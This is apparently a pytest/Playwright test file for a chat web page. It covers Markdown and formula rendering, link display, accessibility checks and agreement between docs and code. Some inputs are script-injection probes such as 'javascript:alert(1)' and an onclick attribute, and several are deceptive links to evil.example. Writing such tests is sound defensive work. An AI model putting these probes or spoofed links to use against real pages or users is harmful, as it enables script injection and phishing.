    assert tab.tab.evaluate(unmarked) == []
    for opener in ("#open-settings", "#open-code", "#open-link", "#open-export"):
        tab.tab.click(opener)
        tab.tab.wait_for_selector("#dialog[open]")
        assert tab.tab.evaluate(unmarked) == [], opener
        tab.tab.keyboard.press("Escape")


def test_page_is_written_to_be_read():
    with open(os.path.join(HERE, "chat.html"), encoding="utf-8") as file:
        lines = file.read().split("\n")
    assert [line for line in lines if len(line) > 100 and "rel=\"icon\"" not in line] == []


# 10. Markdown as models write it, and formulas


def page_shows(tab, provider, text, script, wanted):
    """An answer is shown as wanted: what a script says of it. In the script md is its
    element, all(selector) its elements, texts(selector) their texts."""
    tab.say("Show")
    tab.prompt(provider).done(text)
    deadline, got = time.monotonic() + PAGE_WAIT / 1000, None
    while got != wanted and time.monotonic() < deadline:
        got = tab.tab.evaluate("""() => {
            const md = document.querySelector(".message.last .md");
            const all = (selector) => [...(md || document.body).querySelectorAll(selector)];
            const texts = (selector) => all(selector).map((el) => el.textContent);
            return md && md.textContent ? %s : null; }""" % script)
        tab.tab.wait_for_timeout(20)
    assert got == wanted
    tab.idle()


PAGE_DRAWN = r"""
$x$
$n = 5$
$2x + 3$
$42$
$E = mc^2$
$e^{i\pi} + 1 = 0$
$f(x)$
$x_1, x_2, \ldots, x_n$
$\mathbb{R}^n \to \mathbb{C}$
$a^2 + b^2 = c^2$
$\frac12 + \frac{a}{b} = \tfrac{1}{2}$
$\sqrt{2} \approx 1.41421$
$\sqrt[3]{x + \sqrt{y}}$
$O(n \log n)$
$\alpha, \beta, \Gamma, \Omega, \varepsilon, \varphi$
$f''(x) = f'_n(x)^2$
$\{1, 2, 3\} \subseteq A \cup B \setminus \emptyset$
$|x - y| \leq \|x\| + |{-y}|$
$90^\circ$
$50\%$
$p \mid q \nmid r$
$\lfloor x \rfloor \cdot \lceil y \rceil$
$1{,}000{,}000$
$\$5.00 \times 3$
$\neg p \land q \implies r \iff s$
$\forall \epsilon > 0\, \exists \delta > 0$
$\hat{y}, \bar{x}, \vec{v}, \tilde{A}, \dot{q}, \ddot{q}, \widehat{ABC}$
$\overline{AB} \parallel \underline{CD}$
$\mathbf{A}\mathbf{x} = \mathbf{b}, \mathcal L, \mathfrak g, \mathsf T, \mathtt x, \boldsymbol\beta$
$\mathrm{d}x\,\mathrm{d}y$
$10 \text{ m/s}^2$
$x \in [0, 1)$
$n$th
$\binom{n}{k} = \frac{n!}{k!(n-k)!}$
${n \choose k} = {a \over b}$
$a \equiv b \pmod{n}$
$17 \bmod 5 = 2$
$\left(\frac{1}{2}\right)^n$
$x \mapsto x^{2}$
$P(A \mid B)$
$\sin^2\theta + \cos^2\theta = 1$
$\lim_{x \to 0} \frac{\sin x}{x} = 1$
$x \not\in A, y \not= z$
$\operatorname{argmax}_\theta p(\theta)$
$x_\text{max}$
$T_{\mathrm{CO_2}}$
${}^{14}_{6}\mathrm{C}$
$A^\top A^{-1} A^* A^\dagger$
$\vec{a} \cdot \vec{b} = \|\vec{a}\|\,\|\vec{b}\| \cos\theta$
$a \ne b \le c \ge d$
$x ≤ y, α × β → ∞$
$\therefore \triangle ABC \cong \triangle DEF, \angle A = 90^\circ$
$\big( \Big[ \bigg\{ x \bigg\} \Big] \big)$
$\cancel{x} + \boxed{42}$
$\textbf{v}_1$
$\dots, \cdots, \vdots, \ddots$
$-1 + -2 \times (-3)$
$\color{red}{x} + \textcolor{blue}{y}$
$ABC$
\(x\)
\(2n - 1\)
\(\lambda_{\max} = \frac{3}{4}\)
\( a_{ij}^{(k)} \)
\(y = mx + b\)
\[ x^2 \]
\[\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}\]
\[ \sum_{n=1}^{\infty} \frac{1}{n^2} = \frac{\pi^2}{6} \]
$$\sum\limits_{i=1}^{n} i = \frac{n(n+1)}{2}$$
$$x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}$$
$$\oint_{\partial S} \mathbf B \cdot d\mathbf{l} = \mu_0 I + \mu_0\varepsilon_0 \frac{d\Phi_E}{dt}$$
$$\nabla \times \vec{E} = -\frac{\partial \vec{B}}{\partial t}$$
$$i\hbar\frac{\partial}{\partial t}\Psi = \hat{H}\Psi$$
$$\prod_{p \text{ prime}} \frac{1}{1 - p^{-s}}$$
$$\begin{pmatrix} a & b \\ c & d \end{pmatrix} \begin{bmatrix} x \\ y \end{bmatrix}$$
$$\det A = \begin{vmatrix} 1 & 2 \\ 3 & 4 \end{vmatrix} = -2$$
$$|x| = \begin{cases} x & \text{if } x \ge 0, \\ -x & \text{otherwise.} \end{cases}$$
$$\begin{aligned} (a+b)^2 &= a^2 + 2ab + b^2 \\ &= c^2 \end{aligned}$$
\begin{align*} y &= x + 1 \\[4pt] z &= 2y \end{align*}
\begin{equation} E = mc^2 \tag{1} \end{equation}
$$\left[\begin{array}{cc|c} 1 & 2 & 3 \\ \hline 4 & 5 & 6 \end{array}\right]$$
$$\underbrace{1 + 2 + \cdots + n}_{n \text{ terms}} = \overbrace{a + b}^{c}$$
$$A \xrightarrow{f} B \xleftarrow[h]{g} C$$
$$\left. \frac{dy}{dx} \right|_{x=0}$$
$$\left\{ x \;\middle|\; x > 0 \right\}$$
$$\operatorname*{arg\,min}_{\theta \in \Theta} \mathcal{L}(\theta)$$
$$\max_{\substack{1 \le i \le n \\ i \ne j}} a_{ij}$$
$$\iint_D f\,dA = \iiint_V \rho\,dV$$
$$\text{softmax}(z_i) = \frac{e^{z_i}}{\sum_{j} e^{z_j}}$$
$$\text{Attention}(Q,K,V) = \text{softmax}\left(\frac{QK^T}{\sqrt{d_k}}\right)V$$
$$a \overset{!}{=} b \stackrel{\text{def}}{=} c \underset{n}{\to} d$$
$$2H_2 + O_2 \rightarrow 2H_2O$$
$$x = 1 \\ y = 2$$
$$\displaystyle \frac{a}{b} \quad \text{if $x > 0$}$$
$$\ln\left|\frac{1+x}{1-x}\right|, \quad x \neq 1$$
$$\hat{\beta} = (X^\top X)^{-1} X^\top y$$
$$\bigcup_{i \in I} A_i \supseteq \bigcap_{i \in I} A_i$$
$$\Pr[X \geq a] \leq \frac{\mathbb{E}[X]}{a}$$
$$\begin{gathered} a = b \\ c = d \end{gathered}$$
$$\begin{split} a &= b \\ &\quad + c \end{split}$$
$$f: \mathbb{N} \to \mathbb{N}, \quad f(n) := n + 1$$
$$\limsup_{n\to\infty} a_n \qquad \inf_{x} f$$
$$\langle \psi | \hat{A} | \phi \rangle$$
$$\Gamma(z) = \int_0^\infty t^{z-1} e^{-t} \, \mathrm{d}t$$
$$\dfrac{\dfrac{a}{b}}{\cfrac{c}{d}}$$
""".strip().split("\n")

PAGE_SOURCE = r"""
$\frac{1}{2$
$\frac{1}$
$x^$
$x_1_2$
$x^{2^{}$
$\unknown{x}$
$\left( x$
$x \right)$
$\begin{matrix} a$
$\begin{tikzpicture} \draw (0,0); \end{tikzpicture}$
$\newcommand{\R}{\mathbb{R}}$
$\href{javascript:alert(1)}{x}$
$\includegraphics{x}$
$\htmlClass{x}{y}$
$\ce{H2O}$
$\begin{pmatrix} a \end{bmatrix}$
$\text{a \foo b}$
$\constructor{x}$
$\color{#ff0000}{x}$
$}x{$
$a \over b \over c^2$
$x^2 #$
\(\sqrt{\)
\[\begin{cases} x \]
$$\rule{1em}{1em}$$
""".strip().split("\n")

PAGE_AMOUNTS = r"""
It costs $5 and $10.
Between $5-$10 or $1,000-$2,000 a month.
From $20/month to $30/month
US$5 and US$6, 5$ or 6$.
$HOME and $PATH, $USER_NAME and $x
Use ${a} or ${b}/${c}.
I have $100 (about 90 euros) and $20.
Escaped: \$x^2\$.
Not \(a formula in words\) nor array\[0\].
`$x^2$` and `\(x\)`
A price of $1.50, then $2_000.
$ x^2 $
Lone $$ and \( and \[ here
Pay $3 million, not $4 million.
""".strip().split("\n")


# Of each paragraph: its text, and whether it is a formula that is drawn, or its source.
PAGE_COUNTED = """[...md.children].map((el) => el.querySelector("math") ? "drawn"
    : el.textContent.trim()).slice(0, %d)"""


@in_each_browser
def test_page_draws_formulas(page_provider, page_tab):
    assert len(PAGE_DRAWN) > 100
    page_shows(page_tab().open(), page_provider, "\n\n".join(PAGE_DRAWN),
               PAGE_COUNTED % len(PAGE_DRAWN), ["drawn"] * len(PAGE_DRAWN))


@in_each_browser
def test_page_leaves_what_it_cannot_draw_as_source(page_provider, page_tab):
    page_shows(page_tab().open(), page_provider, "\n\n".join(PAGE_SOURCE),
               PAGE_COUNTED % len(PAGE_SOURCE), PAGE_SOURCE)


@in_each_browser
def test_page_formulas_are_drawn_in_two_dimensions(page_provider, page_tab):
    page_shows(page_tab().open(), page_provider, "$$\\frac{a}{b}$$\n\n$x^2$", """(() => {
        const [a, b, x, two] = all("mfrac > mi, msup > *").map((el) => el.getBoundingClientRect());
        return two && [b.top >= a.bottom - 1, two.left >= x.right - 1, two.bottom < x.bottom];
        })()""", [True] * 3)


def test_page_takes_amounts_and_variables_for_no_formulas(page_provider, page_tab):
    page_shows(page_tab().open(), page_provider, "\n\n".join(PAGE_AMOUNTS),
               "[all('math, .tex').length, md.children.length]", [0, len(PAGE_AMOUNTS)])


@pytest.mark.parametrize("tex, nodes", [
    ("\\frac{a}{2}", "<mfrac><mi>a</mi><mn>2</mn></mfrac>"),
    ("x^{2}_i", "<msubsup><mi>x</mi><mi>i</mi><mn>2</mn></msubsup>"),
    ("\\sqrt[3]{x}", "<mroot><mi>x</mi><mn>3</mn></mroot>"),
    ("\\mathbb{R}", "<mi>\u211d</mi>"), ("\\mathrm{kg}", '<mi mathvariant="normal">kg</mi>'),
    ("x^23", "<msup><mi>x</mi><mn>2</mn></msup><mn>3</mn>"),
    ("\\text{if $x$}", "<mrow><mtext>if\u00a0</mtext><mi>x</mi></mrow>"),
    ("-1", '<mo stretchy="false" form="prefix">\u2212</mo><mn>1</mn>')])
def test_page_makes_mathml(page_provider, page_tab, tex, nodes):
    page_shows(page_tab().open(), page_provider, "\\(" + tex + "\\)",
               "all('math').map((el) => [el.innerHTML, el.namespaceURI])",
               [[nodes.replace("\u00a0", "&nbsp;"), "http://www.w3.org/1998/Math/MathML"]])


@in_each_browser
def test_page_streams_on_around_half_a_formula(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Half")
    job = page_provider.next()
    job.push("A **bold** start with $x^2$.\n\n$$\n- \\frac{a")
    tab.shows("\\frac{a", ".last .md p.tex")
    tab.tab.evaluate("window.first = document.querySelector('.last .md').firstElementChild")
    assert tab.tab.text_content(".last .md strong") == "bold"
    job.push("}{b}\n+ c\n$$\n\nThen $y_1")
    tab.shows("Then $y_1", ".last .md > p:last-child")
    assert len(tab.tab.query_selector_all(".last .md .formula mfrac")) == 1
    job.done("$ and on.")
    tab.idle()
    tab.shows("and on.")
    assert tab.tab.evaluate("first.isConnected && document.querySelectorAll('math').length") == 3


def test_page_ends_a_formula_that_never_ended(page_provider, page_tab):
    page_shows(page_tab().open(), page_provider, "$$\nx^2\n\n- a **b**\n\n" * 3,
               "[texts('li strong'), all('math').length]", [["b"] * 3, 0])


@pytest.mark.parametrize("source, strong", [
    ("**重要。**后面", ["重要。"]),
    ("他说**“你好”**吗", ["“你好”"]), ("前**（注）**后", ["（注）"]),
    ("これは**「大事」**です", ["「大事」"]), ("**중요(important)**은", ["중요(important)"]),
    ("a **b** c**d**e", ["b", "d"]), ("2 ** 3 ** 4", []), ("**$x$**，**`y`**。", ["x", "y"])])
def test_page_finds_emphasis_next_to_punctuation(page_provider, page_tab, source, strong):
    page_shows(page_tab().open(), page_provider, source, "texts('strong')", strong)


def test_page_folds_reasoning_whose_beginning_is_missing(page_provider, page_tab):
    tab = page_tab().open()
    thoughts = "[document.querySelector('.message.last .think').hidden, md.textContent]"
    page_shows(tab, page_provider, "Let me see.\n</think>\n\nSo.", thoughts, [False, "So."])
    page_shows(tab, page_provider, "Write `</think>` or </think> there.", thoughts,
               [True, "Write </think> or </think> there."])
    page_shows(tab, page_provider, "As code:\n```\n</think>\n```", "texts('.code code').join()",
               "</think>\n")


def test_page_reads_formulas_out_as_their_source(page_provider, page_tab):
    tab = page_tab().open()
    page_shows(tab, page_provider, "It is $x^2$.", "all('math').length", 1)
    tab.eventually("document.querySelector('#live').textContent.includes('It is x^2.')")


def test_page_shows_harmless_tags_as_nodes(page_provider, page_tab):
    page_shows(
        page_tab().open(), page_provider,
        "Press <kbd>Ctrl</kbd>+<KBD>**C**</KBD>, H<sub>2</sub>O, x<sup>2</sup>, <kbd>open, "
        "<b>not</b> <sub onclick=x>y</sub>\n\n| a<br>b | c |\n|---|---|\n| d<br/>e<br />f | g |",
        "[texts('kbd'), texts('kbd strong'), texts('sub'), texts('sup'), all('th br').length,"
        " all('td br').length, md.firstElementChild.textContent.split(', ').slice(3)]",
        [["Ctrl", "C"], ["C"], ["2"], ["2"], 1, 2,
         ["<kbd>open", "<b>not</b> <sub onclick=x>y</sub>"]])


def test_page_leads_from_a_footnote_mark_to_the_note(page_provider, page_tab):
    tab = page_tab().open()
    page_shows(
        tab, page_provider, "One[^1], two[^two], and [^none] in `[^1]`.\n\n" + "Text.\n\n" * 80
        + "[^1]: The *first*,\n    with more.\n\n    And more.\n[^two]: The second.",
        "[texts('sup button'), texts('.footnote'), texts('.footnote em'),"
        " md.firstElementChild.textContent]",
        [["1", "two"], ["1The first,\nwith more.And more.", "twoThe second."], ["first"],
         "One1, twotwo, and [^none] in [^1]."])
    tab.tab.click("[aria-label='Footnote two']")
    tab.eventually("document.querySelector('[data-note=two]').getBoundingClientRect().bottom"
                   " <= innerHeight")


PAGE_REFERENCES = """See [the *manual*][man], [Man] and [2], not [3], array[0] or [x][no such].

[one [two][man] three](https://out.example/)

Sources:
[man]: https://a.example/man "The manual"
[2]: <https://b.example/two>
[bad]: javascript:alert(1)
[good.example][2] is [good.example][3].

[3]: https://evil.example/
[man]: https://late.example/"""


@in_each_browser
def test_page_references_lead_to_the_addresses_below(page_provider, page_tab):
    page_shows(page_tab().open(), page_provider, PAGE_REFERENCES,
               "all('p:not(.footnote) a').map((a) => [a.textContent, a.href])", [
                   ["the manual", "https://a.example/man"], ["Man", "https://a.example/man"],
                   ["2", "https://b.example/two"], ["3", "https://evil.example/"],
                   ["one [two][man] three", "https://out.example/"],
                   ["good.example", "https://b.example/two"],
                   ["good.example", "https://evil.example/"]])


def test_page_references_say_where_they_lead_and_sources_stay(page_provider, page_tab):
    tab = page_tab().open()
    page_shows(tab, page_provider, PAGE_REFERENCES, "texts('.footnote')", [
        '[man]: https://a.example/man "The manual"', "[2]: https://b.example/two",
        "[3]: https://evil.example/", "[man]: https://late.example/"])
    tab.shows("good.example (evil.example)")
    tab.shows("array[0] or [x][no such]")


def test_page_tables_look_like_tables(page_provider, page_tab):
    tab = page_tab(viewport={"width": 360, "height": 640}).open()
    wide = "| %s |\n|%s\n| %s |\n\n" % (" | ".join("abcdefghijkl"), "---|" * 12,
                                      " | ".join(["A wide cell"] * 12))
    narrow = "| a | $|x|$ |\n|--:|:-:|\n| 1 | `p|q` |"
    page_shows(tab, page_provider, wide + narrow, """all(".table").map((el) => {
        const head = getComputedStyle(el.querySelector("th"));
        const cells = [...el.querySelectorAll("td")].slice(-2);
        const cell = getComputedStyle(cells[0]);
        return [el.scrollWidth > el.clientWidth, getComputedStyle(el).borderTopWidth,
          head.backgroundColor !== cell.backgroundColor, parseFloat(cell.paddingLeft) > 10,
          cells.map((td) => td.textContent + " " + getComputedStyle(td).textAlign)]; })""",
               [[True, "1px", True, True, ["A wide cell left"] * 2],
                [False, "1px", True, True, ["1 right", "p|q center"]]])
    assert tab.wide() == []


def test_page_tables_run_from_right_to_left(page_provider, page_tab):
    page_shows(
        page_tab().open(), page_provider, "| الاسم | العدد |\n|---|--:|\n| علي | 12 |",
        "[...all('.table').map((el) => el.dir), all('td').length === 2"
        " && all('td')[0].offsetLeft > all('td')[1].offsetLeft,"
        " ...all('td').map((td) => getComputedStyle(td).textAlign)]",
        ["rtl", True, "right", "right"])


def test_page_ends_addresses_before_foreign_punctuation(page_provider, page_tab):
    page_shows(
        page_tab().open(), page_provider,
        "看https://a.example/x。然后（https://b.example/路径），“https://c.example”、"
        "https://d.example是。See https://e.example/a_(b). And (https://f.example/).",
        "texts('a')", ["https://a.example/x", "https://b.example/路径", "https://c.example",
                       "https://d.example", "https://e.example/a_(b)", "https://f.example/"])


@pytest.mark.parametrize("link, shown", [
    ("[https://bank.example](https://evil.example/bank.example)", " (evil.example)"),
    ("[bank.example](https://evil.example)", " (evil.example)"),
    ("[Go to www.bank.example now](https://evil.example)", " (evil.example)"),
    ("[b\u200bank.example](https://evil.example)", " (evil.example)"),
    ("[bank.example@evil.example](https://other.example)", " (other.example)"),
    ("[me@bank.example](mailto:me@evil.example)", " (evil.example)"),
    ("[https://bank.example](https://www.bank.example/login)", ""),
    ("[bank.example](https://docs.bank.example)", ""), ("[a text. Yes](https://evil.example)", ""),
    ("[evil.example, not bank.example](https://evil.example)", " (evil.example)"),
    ("[Log in at bank.example now](https://evil.example)", " (evil.example)"),
    ("![https://bank.example](https://evil.example)", " (evil.example)"),
    ("[![bank.example](https://bank.example)](https://evil.example)", " (evil.example)"),
    ("[\u202eelpmaxe.knab](https://evil.example)", " (evil.example)"),
    ("[b\u0430nk.example](https://bank.example)", " (bank.example)"),
    ("[x](https://bank.example@evil.example)", " (evil.example)"),
    ("https://bank.example@evil.example/login", " (evil.example)"),
    ("<https://bank.example:1@evil.example>", " (evil.example)"),
    ("<https://bank.example/a>, https://bank.example/?q=other.example", "")])
def test_page_shows_where_a_link_goes_that_says_otherwise(page_provider, page_tab, link, shown):
    page_shows(page_tab().open(), page_provider, "x " + link,
               "[texts('bdi').join(), all('a a').length]", [shown, 0])


PAGE_LONG = {
    "stars": "*a " * 33000, "nested stars": "*a **b " * 8000 + "b** a* " * 8000,
    "brackets": "[" * 50000 + "](x)" * 12000, "images": "![" * 25000 + "](x)" * 12000,
    "dollars": "$" * 50000 + "$a " * 16000, "escapes": "\\(" * 50000 + "\\)",
    "open formulas": "\\[\n" * 30000 + "$$\na\n" * 1500,
    "commands": ("$" + "\\frac" * 180 + "$ ") * 90,
    "braces": ("$$" + "{" * 1900 + "}" * 1900 + "$$\n\n") * 25,
    "scripts": ("$$" + "x^{" * 900 + "y" + "}" * 900 + "$$\n\n") * 25,
    "quotes": ">" * 50000 + "\n" + "> " * 25000, "backticks": "".join(
        "`" * n + "a" for n in range(1, 440)), "tags": "<sub>" * 10000 + "</sub>" * 8000,
    "notes": "[^1] " * 10000 + "\n\n[^1]: x", "dots": ("http://a" + "." * 1900 + "x ") * 50,
    "spaces": ("a" + " " * 3990 + "\n") * 25, "bars": "|" * 50000 + "\n" + "a|b\n" * 12000,
    "loose list": "- a\n\n  b\n" * 3000,
    "spaces in a heading": ("# a" + " " * 3900 + "b\n\n") * 25,
    "a heading that does not end": "# " + " " * 3900 + "\u2028x",
    "spaces in a table": ("a|b\n-" + " " * 3900 + "x\n\n") * 25,
    "spaces in a link": ("[a](" + " " * 3900 + "x\n\n") * 25,
    "a word in a link": ("[" + "a" * 3900 + "](https://a.example)\n\n") * 25,
    "cells": ("$$\\begin{matrix}" + "&" * 3900 + "\\end{matrix}$$\n\n") * 25}


def page_cpu_of(browser, tab, provider, text):
    """CPU milliseconds of the longest task that showing an answer took."""
    browser.start_tracing(page=tab.tab, categories=["toplevel"])
    try:
        page_shows(tab, provider, text + "\n\nThe end.",
                   "texts('p').pop()", "The end.")      # long answers are laid out in parts
    finally:
        trace = browser.stop_tracing()
    return page_longest_task(trace)


@pytest.mark.parametrize("kind", PAGE_LONG)
def test_page_takes_long_runs_of_signs(page_browser, page_provider, page_tab, kind):
    tab = page_tab().open()
    # What grows with the square of the length takes seconds.
    assert page_cpu_of(page_browser, tab, page_provider, PAGE_LONG[kind]) < 400
    assert tab.tab.evaluate("""() => { let most = 0;
        const walk = (el, depth) => { most = Math.max(most, depth);
          for (const child of el.children) walk(child, depth + 1); };
        walk(document.querySelector(".last .md"), 0); return most; }""") < 100


PAGE_BLOCKS = {
    "list": "- item with **bold** and `code`\n" * 7500,
    "quote": "> quoted *text* goes on\n" * 10000,
    "table": "| a | b |\n|---|---|\n" + "| 1 **b** | some words and `code` |\n" * 6700,
    "code": "```python\n" + "def f(x):  # comment\n    return x\n" * 7000 + "```\n",
    "paragraph": "A line of a paragraph with **bold** words.\n" * 5600,
    "line": "word *words* " * 18500,
    "paragraphs": "a\n\n" * 80000, "headings": "# a\n" * 60000}


@pytest.mark.parametrize("kind", PAGE_BLOCKS)
def test_page_draws_a_long_block_without_a_long_frame(
        page_browser, page_provider, page_tab, kind):
    assert len(PAGE_BLOCKS[kind]) > 235000
    longest = []
    while len(longest) < 5 and min(longest, default=100) >= 100:  # the machine may be busy
        longest.append(page_cpu_of(page_browser, page_tab().open(), page_provider,
                                   PAGE_BLOCKS[kind]))
    assert min(longest) < 100, longest


def test_page_counts_on_in_a_long_list_and_repeats_a_long_tables_head(page_provider, page_tab):
    text = "".join("%d. item\n" % n for n in range(1, 451))
    text += "\n| h |\n|---|\n" + "| r |\n" * 450
    page_shows(page_tab().open(), page_provider, text,
               "[all('ol').map((el) => el.start), all('li').length, texts('th'),"
               " all('td').length]", [[1, 201, 401], 450, ["h"] * 3, 450])


# 11. No violation that axe-core finds, in any view or dialog, in both themes


@pytest.fixture(params=["light", "dark"])
def page_sound(request, page_tab, page_axe):
    """Makes tabs of a theme, and sees what axe-core finds in one."""
    def check(tab, where):
        # By the browser's own hand, not a script in the page: its policy stays as it is.
        if not tab.tab.evaluate("typeof axe !== 'undefined'"):
            tab.tab.evaluate(page_axe)
        found = tab.tab.evaluate("axe.run({resultTypes: ['violations']})")["violations"]
        assert [(v["id"], [n["html"][:200] for n in v["nodes"]]) for v in found] == [], where
    check.tab = functools.partial(page_tab, color_scheme=request.param, reduced_motion="reduce")
    return check


def test_page_axe_directory(page_relay, page_provider, page_sound):
    page_relay.add("Sleeping", "Grace", "Seldom awake")
    page_relay.add("Private", "Bob")
    page_relay.change("Private", private=True)
    tab = page_sound.tab()
    page_says(tab, vision=True, tools=True, context_length=32768, tokens_per_s=12.5)
    tab.open("/")
    tab.tab.wait_for_selector(".card:nth-child(3)")
    page_sound(tab, "directory")
    tab.tab.fill("#find", "nothing like it")
    tab.shows("No model matches", "#no-cards")
    page_sound(tab, "nothing found")


def test_page_axe_sharing(page_relay, page_sound):
    tab = page_sound.tab().open("/")
    tab.tab.click("#open-share")
    page_sound(tab, "share")
    tab.tab.fill("#share-name", "demo")
    tab.expects_trouble = True
    tab.tab.click("text=Register the name")
    tab.shows("taken", "#share-trouble")
    page_sound(tab, "share: taken")
    tab.tab.fill("#share-name", "Mine")
    tab.tab.click("text=Register the name")
    tab.tab.wait_for_selector("#share-done:visible")
    page_sound(tab, "share: done")
    tab.tab.keyboard.press("Escape")
    tab.tab.click("#open-manage")
    page_sound(tab, "manage: locked")
    tab.tab.keyboard.press("Escape")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.fill("#guest-label", "Bob")
    tab.tab.click("text=Make an access key")
    tab.tab.wait_for_selector("#dialog .secret code")
    page_sound(tab, "manage")
    tab.tab.keyboard.press("Escape")
    tab.tab.click("#open-preferences")
    page_sound(tab, "preferences")


def test_page_axe_chat(page_provider, page_sound):
    tab = page_sound.tab()
    page_says(tab, suggestions=["Tell me a joke"])
    tab.open()
    tab.tab.wait_for_selector(".suggestions button")
    page_sound(tab, "empty chat")
    page_give(tab, "drop", ("a.png", "image/png", page_png(8, 8)), ("b.txt", "", b"Bee"))
    tab.tab.wait_for_selector("#files .file.text")
    page_sound(tab, "files")
    tab.say("Show all")
    job = page_provider.next()
    job.push({"reasoning": "Hm."}, PAGE_SAMPLE, PAGE_MODELS_SAMPLE.replace(
        "| $|a|$ |", "| a |"))                           # axe takes a formula for nothing
    tab.shows("Another.")
    tab.say("The next one")
    tab.shows("The next one", "#up-next")
    page_sound(tab, "answering")
    tab.tab.click("#up-next >> text=Take back")
    job.push({"tool_calls": [{"index": 0, "id": "c", "function": {
        "name": "get_weather", "arguments": '{"city": "Rome"}'}}]})
    job.fail("broken")
    tab.expects_trouble = True
    tab.shows("broken", ".trouble")
    for summary in (".think summary", ".tools summary", ".message.user summary"):
        tab.tab.click(summary)
    page_sound(tab, "chat")
    tab.tab.click(".last [aria-label=More]")
    page_sound(tab, "menu of a message")
    tab.tab.keyboard.press("Escape")
    tab.tab.click(".picker summary")
    page_sound(tab, "picker of services")
    tab.tab.keyboard.press("Escape")
    tab.tab.hover(".message.user")
    tab.tab.click(".message.user [aria-label='Edit and send again']")
    page_sound(tab, "editing")
    tab.tab.keyboard.press("Escape")
    tab.tab.click("#new")
    tab.tab.check("#temporary")
    page_talk(tab, page_provider, "Between us", "Yes")
    page_sound(tab, "temporary conversation")


def test_page_axe_dialogs_of_the_chat(page_provider, page_sound):
    tab = page_sound.tab().open()
    page_give(tab, "drop", ("a.png", "image/png", page_png(300, 200)))
    tab.tab.wait_for_selector("#files img")
    page_talk(tab, page_provider, "Look", "A picture")
    for opener in ("#open-settings", "#open-code", "#open-export", "#open-link",
                   ".message.user img"):
        tab.tab.click(opener)
        tab.tab.wait_for_selector("#dialog:visible")
        page_sound(tab, opener)
        tab.tab.keyboard.press("Escape")
    tab.tab.focus("#log")
    tab.tab.keyboard.press("?")
    tab.tab.wait_for_selector("#dialog:visible")
    page_sound(tab, "shortcuts")


def test_page_axe_banners(page_relay, page_provider, page_sound):
    tab = page_sound.tab()
    tab.expects_trouble = True
    tab.open("/Nowhere")
    tab.tab.wait_for_selector(".banner")
    page_sound(tab, "unknown service")
    page_relay.change("Demo", private=True)
    tab.open("/Demo#k=wrong")
    tab.tab.click(".banner >> text=Enter a key")
    tab.tab.wait_for_selector("#dialog:visible")
    page_sound(tab, "key")
    tab.tab.keyboard.press("Escape")
    page_sound(tab, "private")
    page_relay.change("Demo", private=False, paused=True)
    tab.open("/Demo")
    tab.shows("Paused", ".banner")
    page_sound(tab, "paused")
    page_relay.change("Demo", paused=False)
    tab.tab.goto(page_relay.url + page_packed(json.dumps({"title": "Shared", "messages": [
        {"role": "user", "content": "Hello"}, {"role": "assistant", "content": "Hi"}]}).encode()))
    tab.shows("It is not stored", ".banner")
    page_sound(tab, "shared conversation")
    page_provider.leave()
    tab.open("/Demo")
    tab.shows("Offline right now", ".banner")
    page_sound(tab, "offline")


##############################################################################
# README and docs: their tables are what the code says
##############################################################################


DOCUMENTS = ["README.md"] + sorted(
    "docs/" + name for name in os.listdir(os.path.join(HERE, "docs")))


def document(name):
    with open(os.path.join(HERE, name), encoding="utf-8") as file:
        return file.read()


def table(name, heading):
    """The rows of the first table below a heading of a document, as lists of cells."""
    text = ("\n" + document(name)).split("\n%s\n" % heading, 1)[1]
    lines = text[text.index("|"):].split("\n\n")[0].strip().split("\n")[2:]
    return [[cell.strip().replace("`", "") for cell in re.split(r"(?<!\\)\|", line)[1:-1]]
            for line in lines]


def test_documented_errors_are_the_codes_errors():
    rows = [tuple(row[:6]) for row in table("docs/http-api.md", "## Errors")]
    assert rows == [(name, str(code), str(status), kind, openai, "yes" if retry else "no")
                    for name, (code, status, kind, openai, retry)
                    in neuroengine_server.ERRORS.items()]
    assert neuroengine.RETRIED | neuroengine.FINAL - {"certificate"} <= {r[0] for r in rows}


def test_documented_limits_are_the_codes_limits():
    rows = [row for heading in ("### Limits of the relay", "### Limits per caller",
                                "### All other limits")
            for row in table("docs/operating.md", heading)]
    assert sorted(rows) == sorted(["--" + name.replace("_", "-"), str(default), text]
                                  for name, default, *_, text in neuroengine_server.LIMITS)


def test_documented_commands_are_the_codes_commands():
    assert [row[0] for row in table("docs/operating.md", "## Look after it")] == [
        (name + " " + argument).strip()
        for name, (_, argument, _) in neuroengine_server.COMMANDS.items()]


@pytest.mark.parametrize("name, heading, fields", [
    ("docs/http-api.md", "## Request", neuroengine_server.NATIVE_FIELDS),
    ("docs/http-api.md", "## Access keys", neuroengine_server.KEY_FIELDS),
    ("docs/openai-api.md", "## Requests", neuroengine_server.OPENAI_FIELDS)])
def test_documented_fields_are_the_codes_fields(name, heading, fields):
    rows = {row[0]: row[1] for row in table(name, heading)}
    for field, kind in fields.items():
        assert rows[field] == kind.words.replace("|", "\\|"), field
    assert set(rows) <= set(fields) | {"command", "model", "messages", "prompt"}
    assert set(neuroengine.SAMPLING) <= set(neuroengine_server.NATIVE_FIELDS)


def test_documented_paths_are_the_codes_paths():
    listed = {}
    for methods, paths, _, _ in table("docs/http-api.md", "## Paths"):
        for path in paths.split(", "):
            listed[path] = set(methods.split(", "))
    assert {re.sub(r"{\w+}", "*", path): methods for path, methods in listed.items()} == {
        path: set(route.handlers) for path, route in neuroengine_server.ROUTES.items()}
    for route in neuroengine_server.ROUTES.values():
        for handler in route.handlers.values():
            assert callable(getattr(neuroengine_server, handler))


def options_in(text):
    return set(re.findall(r"--[a-z][a-z-]+", text))


def test_documented_options_are_the_relays_options():
    documented = options_in(
        str([row[0] for row in table("docs/operating.md", "## Options")]
            + table("docs/operating.md", "## Look after it")))
    limits = {"--" + name.replace("_", "-") for name, *_ in neuroengine_server.LIMITS}
    assert documented == options_in(neuroengine_server.build_parser().format_help()) - limits - {
        "--help", "--help-all", "--version"}


def test_documented_commands_and_options_are_the_command_lines(capsys):
    def help_of(*command):
        with pytest.raises(SystemExit) as ended:
            neuroengine.main([*command, "--help"])
        assert ended.value.code == 0
        return capsys.readouterr().out
    commands = {row[0] for row in table("docs/command-line.md", "# The command line")}
    assert commands == set(re.findall(r"^    ([a-z-]+)", help_of(), re.M))
    common = options_in(str(table("docs/command-line.md", "## Common options")))
